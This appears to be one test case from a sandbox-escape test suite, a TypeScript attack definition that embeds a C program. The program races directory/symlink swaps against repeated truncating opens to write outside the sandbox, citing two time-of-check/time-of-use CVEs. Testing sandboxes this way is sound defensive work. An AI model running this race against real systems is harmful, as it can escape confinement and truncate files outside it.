import { type Attack, c, changed, withoutNetwork } from '../attack.js'

export const attack: Attack = {
  id: 'races/swapped-link',
  tries:
    'to swap a directory for a link to one outside, ten thousand times, while another thread writes through it',
  source: 'CVE-2024-42472, CVE-2021-30465: time of check, time of use',
  program: c`
static void *swap(void *nothing) {
  for (int i = 0; i < 10000; i++) renameat2(AT_FDCWD, path("S", "/a"), AT_FDCWD, path("S", "/b"), RENAME_EXCHANGE);
  return nothing;
}
int main(void) {
  mkdir(path("S", "/a"), 0755);
  if (symlink(var("OUT"), path("S", "/b")) != 0) refused("symlink");
  const char *victim = strdup(path("S", "/a/victim"));
  pthread_t thread;
  pthread_create(&thread, NULL, swap, NULL);
  for (int i = 0; i < 10000; i++) {
    const int file = open(victim, O_WRONLY | O_TRUNC);
    if (file >= 0) close(file);
  }
  pthread_join(thread, NULL);
}`,
  succeeded: changed,
  control: 'plain',
  exempt: withoutNetwork,
}
